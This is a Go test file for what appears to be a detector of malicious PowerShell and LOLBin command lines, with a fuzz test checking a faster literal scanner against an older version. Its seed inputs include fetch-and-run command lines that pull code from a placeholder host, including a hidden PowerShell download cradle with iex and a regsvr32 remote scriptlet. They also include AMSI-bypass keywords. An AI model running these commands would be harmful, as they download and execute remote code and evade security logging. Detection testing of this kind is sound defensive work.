package payload

import (
	"slices"
	"strings"
	"testing"

	"github.com/runkeyhunt/runkeyhunt/tables/cmdline"
	"github.com/runkeyhunt/runkeyhunt/tables/indicators"
)

// textIndicatorsByIndex is textIndicators as it was before textLits: one
// strings.Index pass per literal. FuzzTextLiterals checks the one-pass
// version against it.
func textIndicatorsByIndex(text string) []string {
	orig, low := normalize(text)
	psContext := strings.Contains(low, "powershell") || strings.Contains(low, "pwsh")
	params := scanParamsByIndex(orig, low, psContext)
	containsAny := func(subs ...string) bool {
		return slices.ContainsFunc(subs, func(sub string) bool { return strings.Contains(low, sub) })
	}
	anyRule := func(rules []anchoredRule) bool {
		return slices.ContainsFunc(rules, func(r anchoredRule) bool { return r.match(low) })
	}
	var ids []string
	add := func(id string, matched bool) {
		if matched {
			ids = append(ids, id)
		}
	}
	add(indicators.EncodedCommand, params.encodedArg)
	add(indicators.HiddenWindow, params.windowHidden || params.windowOne && psContext || anyRule(hiddenWindowRules))
	add(indicators.NoProfile, params.noProfile)
	add(indicators.ExecPolicyBypass, params.policyBypass || strings.Contains(low, "set-executionpolicy"))
	add(indicators.DownloadCradle, containsAny("net.webclient", "downloadstring", "downloaddata", "downloadfile",
		"invoke-webrequest", "start-bitstransfer", "xmlhttp", "script:http") || anyRule(downloadCradleRules))
	add(indicators.InvokeExpression, containsAny("invoke-expression", "scriptblock]::create", "invokecommand.invokescript") ||
		anyRule(invokeExpressionRules) || matchBlockInvoke(low, litHits(^uint64(0))))
	add(indicators.ReflectionLoad, containsAny("virtualalloc", "getdelegateforfunctionpointer") || anyRule(reflectionLoadRules))
	add(indicators.AMSIBypass, containsAny("amsiutils", "amsiinitfailed", "amsiscanbuffer"))
	add(indicators.ScriptblockLoggingBypass, containsAny("cachedgrouppolicysettings", "scriptblocklogging", "scriptblockinvocationlogging"))
	add(indicators.LolbinScript, containsAny("activexobject", "wscript.shell") || anyRule(lolbinScriptRules))
	add(indicators.CompressedPayload, containsAny("io.compression.deflatestream", "io.compression.gzipstream"))
	slices.Sort(ids)
	return ids
}

// scanParamsByIndex is scanParams with the PowerShell context given, as
// it was computed by strings.Contains.
func scanParamsByIndex(orig, low string, psContext bool) paramFlags {
	hits := litHits(0)
	if psContext {
		hits = litHits(powerShellLits)
	}
	return scanParams(orig, low, hits)
}

func TestLitTableFindsEveryLiteral(t *testing.T) {
	for _, w := range textLits.words {
		for _, text := range []string{w, "x" + w, w + "y", "a " + w[:len(w)-1] + " " + w + " b", strings.Repeat(w[:2], 3) + w} {
			hits := textLits.scan(text)
			for i, x := range textLits.words {
				want := strings.Contains(text, x)
				if got := hits.any(litGroup(1) << i); got != want {
					t.Errorf("scan(%q) finds %q: %v, want %v", text, x, got, want)
				}
			}
		}
	}
	if hits := textLits.scan(strings.ToUpper(textLits.words[0])); hits != 0 {
		t.Errorf("upper-case text: hits %b, want none (the table is for lowered text)", hits)
	}
}

// FuzzTextLiterals: the one-pass literal search gives what one
// strings.Contains per literal gives, nextOf what strings.IndexAny gives,
// lowerASCII what a lowered byte copy gives, and textIndicators what it
// gave before them.
func FuzzTextLiterals(f *testing.F) {
	for _, s := range []string{
		`powershell -w 1 -nop -c "iex (new-object net.webclient).downloadstring('http://x/a')"`,
		`{ write-host hi }.invoke()`, `[reflection.assembly]::load($b)`, `mshta vbscript:execute("x")`,
		`start /min cmd /c calc`, `pwsh -ec SQBFAFgA`, `set-executionpolicy bypass; amsiutils`,
		`regsvr32 /s /i:http://x/a.sct scrobj.dll`, `io.compression.gzipstream`, "ie", "pows", "a-/b//c--d-", "/",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		_, low := normalize(text)
		lowered := []byte(text) // lowerASCII as it was: lowered in a copy, copied again
		for i, c := range lowered {
			if c >= 'A' && c <= 'Z' {
				lowered[i] = c + ('a' - 'A')
			}
		}
		if got := cmdline.ASCIILower(text); got != string(lowered) {
			t.Fatalf("cmdline.ASCIILower(%q) = %q, want %q", text, got, lowered)
		}
		hits := textLits.scan(low)
		for i, w := range textLits.words {
			if got, want := hits.any(litGroup(1)<<i), strings.Contains(low, w); got != want {
				t.Fatalf("scan finds %q: %v, strings.Contains: %v", w, got, want)
			}
		}
		var next nextOf
		for off := 0; off <= len(low); {
			want := strings.IndexAny(low[off:], "-/")
			if want >= 0 {
				want += off
			}
			got := next.dashOrSlash(low, off)
			if got != want {
				t.Fatalf("dashOrSlash(%q, %d) = %d, strings.IndexAny: %d", low, off, got, want)
			}
			if got < 0 {
				break
			}
			off = got + 1
		}
		if got, want := textIndicators(text), textIndicatorsByIndex(text); !slices.Equal(got, want) {
			t.Fatalf("textIndicators(%q) = %q, before textLits %q", text, got, want)
		}
	})
}

func TestParamByteSets(t *testing.T) {
	for c := range 256 {
		b := byte(c)
		if got, want := isParamBoundary(b), isSpaceByte(b) || strings.IndexByte(`"'(;|&,{`, b) >= 0; got != want {
			t.Errorf("isParamBoundary(%#02x) = %v, want %v", c, got, want)
		}
		if got, want := isArgEnd(b), isSpaceByte(b) || strings.IndexByte(`"';|&)`, b) >= 0; got != want {
			t.Errorf("isArgEnd(%#02x) = %v, want %v", c, got, want)
		}
	}
}
